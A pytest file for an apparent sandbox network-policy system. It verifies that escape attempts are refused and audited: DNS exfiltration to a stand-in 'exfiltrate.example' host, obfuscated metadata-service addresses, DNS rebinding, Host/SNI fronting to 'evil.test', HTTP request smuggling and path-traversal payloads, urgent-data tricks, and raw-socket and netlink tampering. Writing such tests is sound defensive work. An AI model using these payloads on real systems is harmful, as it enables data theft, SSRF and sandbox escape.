"""Ways out that others left open, each tried from inside, shown to fail, and shown in the audit."""

from __future__ import annotations

import asyncio
import os
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandkeep.linux import netlink
from sandkeep.policy import Matcher, NetworkPolicy, RequestMatch, Respond, Rule, Transform
from tests.driver_lab import Lab
from tests.mode_runner import Ask, everywhere, in_modes, opened
from tests.net.network_lab import Box, Net, Recorder, hello, inspecting, network, resolving

pytestmark = pytest.mark.skipif(
    not os.path.exists("/usr/bin/curl"), reason="no curl in the host's /usr: apt-get install curl"
)

CUSTOM = NetworkPolicy.custom
PROBE = (Path(__file__).parent / "probe.py").read_text()


@pytest.fixture(scope="module", params=("root", "single"))
def ask(request: pytest.FixtureRequest) -> Iterator[Ask]:
    yield from opened(request)


def probe(box: Box, what: str, *args: object, sudo: bool = False) -> str:
    """Ask a small program inside to try something; it prints what came of it."""
    box.sh(f"cat > /tmp/probe.py <<'END'\n{PROBE}\nEND")
    return box.sh(f"python3 /tmp/probe.py {what} {' '.join(map(str, args))}", root=sudo)


URGENT = """python3 - <<'END'
import socket, time
sock = socket.create_connection(("one.test", {port}))
sock.sendall({before!r})
time.sleep(0.2)
sock.send(b"!", socket.MSG_OOB)
time.sleep(0.2)
sock.sendall({after!r})
time.sleep({pause})
sock.shutdown(socket.SHUT_WR)
print(sock.recv(100))
END"""


def denied(box: Box, **facts: object) -> bool:
    return bool(box.events("connection", verdict="deny", **facts))


@everywhere
def test_dns_carries_nothing_out(lab: Lab) -> None:
    with resolving(lab) as (net, server):
        server.addresses = {"allowed.example": ["127.0.0.1"], "x.wild.example": ["127.0.0.1"]}
        box = net.box(CUSTOM(["allowed.example", "*.wild.example"]))
        stolen = "c2vjcmv0.exfiltrate.example"
        assert "NXDOMAIN" in probe(box, "dns", "udp", stolen, 1)
        assert "NXDOMAIN" in probe(box, "dns", "tcp", stolen, 1)
        assert probe(box, "dns", "udp", "allowed.example", 16) == "NOERROR 0"
        assert probe(box, "dns", "udp", "allowed.example", 1).startswith("NOERROR 1 198.18.")
        assert probe(box, "dns", "tcp", "x.wild.example", 1).startswith("NOERROR 1 198.18.")
        assert {name for name, _ in server.asked} == {"allowed.example", "x.wild.example"}
        assert {kind for _, kind in server.asked} == {1, 28}
        assert box.events("dns", name=stolen, verdict="deny")


@everywhere
def test_addresses_in_any_spelling_are_judged_as_addresses(lab: Lab) -> None:
    with network(lab) as net:
        port = net.serve(hello)
        box = net.box(CUSTOM(["one.test"]))
        for spelling in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"):
            assert "hello" not in box.sh(f"curl -sS -m 30 http://{spelling}/")
        net.until(lambda: len(box.events("connection", address="169.254.169.254", verdict="deny")) == 4)
        mapped, translated = "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"
        for literal in ("fd00:ec2::254", mapped, translated, "2001:db8::1"):
            assert "hello" not in box.sh(f"curl -sS -g -m 30 'http://[{literal}]:{port}/'")
        assert denied(box, address="fd00:ec2::254") and denied(box, address="2001:db8::1")
        assert "hello" not in box.sh(
            f"curl -sS -m 30 http://127.0.0.1:{port}/ http://[::1]:{port}/ http://0:{port}/"
        )


@everywhere
def test_names_that_lead_to_forbidden_addresses_are_refused_under_every_policy(lab: Lab) -> None:
    with network(lab) as net:
        widest = CUSTOM(["*"], allow_subnets=["0.0.0.0/0", "::/0"])
        for policy in (NetworkPolicy.allow_all(), CUSTOM(["*"]), widest):
            box = net.box(policy)
            for name, address in (("metadata.test", "169.254.169.254"), ("private.test", "10.1.2.3")):
                assert "curl: (" in box.sh(f"curl -sS -m 30 http://{name}/")
                event = box.events("connection", name=name, verdict="deny")[0]
                assert address in event.data["reason"]


@in_modes("root", why="takes as long as a cached name lives")
def test_a_name_that_changes_its_address_gains_nothing(lab: Lab) -> None:
    with resolving(lab) as (net, server):
        port = net.serve(hello)
        server.addresses = {"rebind.example": ["127.0.0.1"]}
        box = net.box(CUSTOM(["rebind.example"]))
        assert box.sh(f"curl -sS http://rebind.example:{port}/") == "hello from rebind.example"
        server.addresses = {"rebind.example": ["169.254.169.254"]}
        net.wait(5.2)
        assert "hello" not in box.sh(f"curl -sS -m 30 http://rebind.example:{port}/")
        assert denied(box, name="rebind.example")


@everywhere
def test_addresses_standing_for_names_are_worth_nothing_elsewhere(lab: Lab) -> None:
    with network(lab) as net:
        port = net.serve(hello)
        mine, other = net.box(CUSTOM(["one.test"])), net.box(CUSTOM(["one.test", "two.test"]))
        address = other.sh("getent ahostsv4 two.test | head -1 | cut -d' ' -f1")
        assert address.startswith("198.18.")
        reached = f"curl -sS -m 30 -H 'Host: two.test' http://{address}:{port}/"
        assert other.sh(reached) == "hello from two.test"
        assert "hello" not in mine.sh(reached)
        assert denied(mine, address=address)
        # One this session had, for a name it may no longer reach.
        other.policy(CUSTOM(["one.test"]))
        assert "hello" not in other.sh(reached)


@everywhere
def test_one_allowed_name_is_no_way_to_another_at_the_same_address(lab: Lab) -> None:
    with inspecting(lab) as (net, authority):
        server = Recorder()
        port = net.serve(server, ssl=authority.server("one.test", "evil.test"))
        plain = net.serve(server)
        box = net.box(CUSTOM(["one.test"]))
        front = f"--connect-to evil.test:{port}:one.test:{port}"
        assert "curl: (35)" in box.sh(f"curl -ksS -m 30 {front} https://evil.test:{port}/")
        assert box.events("connection", name="one.test", verdict="deny")[0].data["reason"] == (
            "the connection asks for evil.test, not for one.test"
        )
        for request in (
            f"-H 'Host: evil.test' http://one.test:{plain}/",
            f"-x http://one.test:{plain} http://evil.test/",
            f"-p -x http://one.test:{plain} https://evil.test/",
            f"-X PROPFIND -H 'Host: evil.test' http://one.test:{plain}/",
            f"-X x-own -H 'Host: evil.test' http://one.test:{plain}/",
        ):
            assert "HTTP/1.1 evil" not in box.sh(f"curl -sS -m 30 {request}")
        late = "\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
        box.sh(f"exec 3<>/dev/tcp/one.test/{plain}; printf '{late}' >&3; timeout 1 cat <&3")
        assert server.requests == []
        ruled = net.box(CUSTOM({"one.test": [Rule(Transform((("x-key", "secret"),)))]}))
        for version in ("--http1.1", "--http2"):
            status = "-o /dev/null -w '%{http_code}'"
            fronted = f"curl -sS -m 30 {version} {status} -H 'Host: evil.test' https://one.test:{port}/"
            assert ruled.sh(fronted) == "403"
        relayed = f"curl -sS -m 30 -p -x http://one.test:{plain} https://evil.test/"
        assert "reset by peer" in ruled.sh(relayed)
        assert server.requests == []
        net.until(lambda: len(ruled.events("request", verdict="deny")) == 2)


@everywhere
def test_urgent_data_hides_nothing_and_keeps_nobody_busy(lab: Lab) -> None:
    received: list[bytes] = []

    async def keep(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read())
        writer.write(b"kept")

    def used(net: Net) -> float:
        fields = Path(f"/proc/{net.engine.network.pid}/stat").read_text().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    with network(lab) as net:
        port = net.serve(keep)
        box = net.box(CUSTOM(["one.test"]))
        request = b"GET / HTTP/1.1\r\nHost: one.test\r\n\r\n"
        before = used(net)
        assert "kept" in box.sh(URGENT.format(port=port, before=request, after=b"more", pause=3))
        assert used(net) - before < 1.5
        assert received == [request + b"!more"]
        hidden = URGENT.format(
            port=port, before=b"GET ", after=b"/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", pause=0
        )
        assert "kept" not in box.sh(hidden)
        reason = "urgent data hides whom the connection asks for"
        assert box.events("connection", verdict="deny", reason=reason)
        assert len(received) == 1


@everywhere
def test_requests_that_can_be_read_two_ways_do_not_pass_a_rule(lab: Lab) -> None:
    with inspecting(lab) as (net, _):
        server = Recorder()
        port = net.serve(server)
        forbidden = Rule(Respond(403), RequestMatch(path=Matcher(starts_with="/admin")))
        box = net.box(CUSTOM({"one.test": [forbidden]}))
        host = "Host: one.test\\r\\n"
        attempts = (
            f"POST / HTTP/1.1\\r\\n{host}Content-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
            "0\\r\\n\\r\\n"
            f"GET /admin HTTP/1.1\\r\\n{host}\\r\\n",
            f"GET / HTTP/1.1\\r\\n{host}Host: evil.test\\r\\n\\r\\n",
            f"GET http://evil.test/admin HTTP/1.1\\r\\n{host}\\r\\n",
            f"GET / HTTP/1.1\\r\\n{host}X: y\\nGET /admin HTTP/1.1\\r\\n\\r\\n",
            f"GET / HTTP/1.1\\r\\n{host}Transfer-Encoding: xchunked\\r\\n\\r\\n",
            f"GET /x/..%%2fadmin HTTP/1.1\\r\\n{host}\\r\\n",
            f"GET /x/%%2%%65%%2%%65/admin HTTP/1.1\\r\\n{host}\\r\\n",
            f"GET /x/..;/admin HTTP/1.1\\r\\n{host}\\r\\n",
            f"GET /x?y#/admin HTTP/1.1\\r\\n{host}\\r\\n",
            f"GET / HTTP/1.1\\r\\n{host}Content-Length: 5\\r\\nContent-Length: 6\\r\\n\\r\\nhello!",
        )
        for attempt in attempts:
            box.sh(f"exec 3<>/dev/tcp/one.test/{port}; printf '{attempt}' >&3; timeout 1 cat <&3")
        assert server.requests == []
        # Spellings of the same path are one path, to the rule and to the server.
        for path in ("/admin", "/x/../admin", "/%61dmin", "/x/%2e%2e/admin", "/./admin/y"):
            out = box.sh(
                f"curl -sS --path-as-is -o /dev/null -w '%{{http_code}}' http://one.test:{port}{path}"
            )
            assert out == "403"
        assert server.requests == []
        assert box.sh(f"curl -sS http://one.test:{port}/fine").startswith("GET /fine")


@everywhere
def test_a_redirect_to_the_metadata_service_leads_nowhere(lab: Lab) -> None:
    with network(lab) as net:

        async def redirect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            head = b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest\r\n"
            writer.write(head + b"Content-Length: 0\r\n\r\n")
            await writer.drain()

        port = net.serve(redirect)
        box = net.box(NetworkPolicy.allow_all())
        assert "curl: (" in box.sh(f"curl -sSL -m 30 http://one.test:{port}/")
        assert denied(box, address="169.254.169.254")


@everywhere
def test_other_protocols_end_inside(lab: Lab) -> None:
    with network(lab) as net, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.setblocking(False)
        port = listener.getsockname()[1]
        box = net.box(NetworkPolicy.allow_all())
        assert probe(box, "udp", "203.0.113.1", 443) == "refused"
        assert probe(box, "udp", "2001:db8::1", 443) == "refused"
        for address in ("127.0.0.1", "203.0.113.1"):
            probe(box, "raw", address, port, sudo=True)
            probe(box, "packet", address, port, sudo=True)
            probe(box, "udp", address, port)
        with pytest.raises(BlockingIOError):
            listener.recv(1)
        assert probe(box, "interfaces") == "lo"
        assert probe(box, "vsock") == "refused"


@everywhere
def test_abstract_unix_sockets_of_the_host_are_not_there(lab: Lab) -> None:
    with network(lab) as net, socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as listener:
        name = f"sandkeep-test-{id(net)}"
        listener.bind(f"\0{name}")
        listener.listen()
        box = net.box()
        assert probe(box, "abstract", name) == "refused"


@everywhere
def test_sandbox_root_cannot_undo_the_steering(lab: Lab) -> None:
    with network(lab) as net:
        port = net.serve(hello)
        box = net.box(CUSTOM(["one.test"]))
        # Sockets that speak to the packet filter cannot be made; those for addresses may only ask.
        steering = {"flush-nft": "refused", "add-address": "not permitted", "link-down": "not permitted"}
        assert {what: probe(box, what, sudo=True) for what in steering} == steering
        direct = f"curl -sS -m 30 -H 'Host: one.test' http://127.0.0.1:{netlink.TCP_PORT}/"
        assert "hello" not in box.sh(direct)
        assert denied(box, address="127.0.0.1", port=netlink.TCP_PORT)
        assert probe(box, "bind", "127.0.0.1", netlink.TCP_PORT, sudo=True) == "refused"
        assert box.sh(f"curl -sS http://one.test:{port}/") == "hello from one.test"


@everywhere
def test_the_server_itself_is_out_of_reach_even_where_loopback_is_open(lab: Lab) -> None:
    with network(lab) as net:
        box = net.box(NetworkPolicy.allow_all(), ports=(3000,))
        sandbox = net.engine.sandboxes.get(net.project, box.name).sandbox
        ingress = net.engine.network.routes(sandbox)[0].url.rpartition(":")[2]
        assert "curl: (" in box.sh(f"curl -sS -m 30 http://one.test:{ingress}/")
        assert "sandbox server itself" in box.events("connection", verdict="deny")[0].data["reason"]
